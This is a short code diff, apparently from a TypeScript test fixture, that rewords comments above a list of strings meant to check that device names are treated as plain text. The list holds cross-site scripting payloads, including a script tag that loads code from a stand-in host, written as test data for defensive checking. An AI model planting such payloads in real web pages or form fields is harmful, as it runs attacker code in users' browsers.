@@ -1,6 +1,6 @@
-/** Texts that would run, or that a spreadsheet would calculate, if they were taken for anything but texts. */
+/** Texts that would run, or be calculated by a spreadsheet, if treated as anything but text. */
 
-/** Where `x-h` turns up as an element, a text was read as markup. Short: a device's name has 40 characters. */
+/** If `x-h` appears as an element, a text was parsed as markup. Kept short: a device's name has 40 characters. */
 export const MARKUP: readonly string[] = [
   '<script>alert(1)</script>',
   '<script src=//evil.test/x.js></script>',
